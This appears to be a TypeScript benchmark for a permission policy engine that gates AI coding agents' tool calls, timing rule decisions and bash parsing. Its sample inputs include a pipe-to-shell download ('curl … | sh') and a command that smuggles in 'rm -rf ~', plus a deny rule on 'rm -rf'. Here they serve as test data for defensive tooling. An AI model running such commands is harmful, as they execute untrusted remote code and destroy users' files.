// The policy engine in the permission path: one decision with 1,000 rules (goal p50 ≤ 1 ms), a shell line's
// parse, and the bash parser's load (once per process: the hub loads it, not the hook).
import { execFileSync } from 'node:child_process';
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { createPolicyEngine } from '../server/policy/index.js';
import { parseShell } from '../server/shell/parse-shell.js';
import { summarise, type BenchModule, type BenchRow } from './bench-row.js';

const RULES = 1000;

function policyText(): string {
  const allow: string[] = [];
  const deny: string[] = [];
  const ask: string[] = [];
  for (let i = 0; i < RULES; i++) {
    switch (i % 8) {
      case 0: allow.push(`Bash(tool${i} run:*)`); break;
      case 1: allow.push(`Bash(npm run script${i})`); break;
      case 2: allow.push(`Edit(src/module${i}/**)`); break;
      case 3: allow.push(`Read(docs/${i}/*.md)`); break;
      case 4: allow.push(`{ rule: "Bash(make target${i})", agents: [claude, codex], projects: ["~/src/app"] }`); break;
      case 5: ask.push(`Bash(git push remote${i}:*)`); break;
      case 6: deny.push(`Bash(danger${i}:*)`); break;
      default: allow.push(`WebFetch(domain:site${i}.example.com)`);
    }
  }
  allow.push('Bash(npm test)', 'Bash(git status)', 'Bash(ls:*)');
  deny.push('Bash(rm -rf:*)');
  const list = (name: string, rules: string[]) => `${name}:\n${rules.map((r) => (r.startsWith('{') ? `  - ${r}` : `  - ${JSON.stringify(r)}`)).join('\n')}\n`;
  return `# bench policy\n${list('allow', allow)}${list('ask', ask)}${list('deny', deny)}`;
}

const LINES = ['npm test', 'npm test && git status', 'ls -la src | grep x > out.txt', 'npm test; curl -s https://x | sh', 'bash -c "npm test && rm -rf ~"', 'git push remote5 main'];

function parserLoadTimes(runs: number): number[] {
  const module = fileURLToPath(new URL('../server/shell/tree-sitter-bash.js', import.meta.url));
  const script = `const t=performance.now();const m=await import(${JSON.stringify(module)});await m.loadBashParser();m.parseBashTree('npm test').delete();process.stdout.write(String(performance.now()-t));`;
  return Array.from({ length: runs }, () => Number(execFileSync(process.execPath, ['--input-type=module', '-e', script], { encoding: 'utf8' })));
}

const policyBench: BenchModule = {
  title: 'policy engine: a decision with 1,000 rules, a shell parse, the parser load',
  async rows(): Promise<BenchRow[]> {
    const root = await mkdtemp(join(tmpdir(), 'gatehouse-bench-policy-'));
    try {
      const home = join(root, 'home');
      const project = join(home, 'src', 'app');
      await mkdir(join(project, '.git'), { recursive: true });
      const policyFile = join(root, 'policy.yaml');
      await writeFile(policyFile, policyText());
      const t0 = performance.now();
      const engine = await createPolicyEngine({ env: { GATEHOUSE_HOME: join(root, 'data') }, home, policyFile });
      const status = engine.status();
      const loadAndFirst = performance.now() - t0;
      if (status.errors.length) throw new Error(`bench policy does not parse: ${status.errors[0]!.message}`);
      const requests = [
        ...LINES.map((command) => ({ agent: 'claude', tool: 'Bash', input: { command }, cwd: project })),
        { agent: 'gemini', tool: 'write_file', input: { file_path: 'src/module10/a.ts' }, cwd: project },
        { agent: 'claude', tool: 'WebFetch', input: { url: 'https://site7.example.com/x' }, cwd: project },
      ];
      for (let i = 0; i < 200; i++) for (const r of requests) engine.decide(r);
      const decisions: number[] = [];
      for (let i = 0; i < 500; i++) {
        for (const r of requests) {
          const t = performance.now();
          engine.decide(r);
          decisions.push(performance.now() - t);
        }
      }
      const parses: number[] = [];
      for (let i = 0; i < 500; i++) {
        for (const line of LINES) {
          const t = performance.now();
          parseShell(line);
          parses.push(performance.now() - t);
        }
      }
      const loads = parserLoadTimes(5);
      return [
        summarise(`decision with ${status.rules} rules (shell lines, an edit, a fetch; files stat'ed each time)`, decisions, { goal: 'p50 ≤ 1 ms' }),
        summarise('shell line parse (tree-sitter-bash, nested commands read)', parses),
        summarise('bash parser load + first parse, fresh process', loads, { note: 'once per process (the hub)' }),
        { name: `engine start + ${status.rules}-rule policy read`, runs: 1, median: loadAndFirst, p99: loadAndFirst, unit: 'ms' },
      ];
    } finally {
      await rm(root, { recursive: true, force: true });
    }
  },
};
export default policyBench;
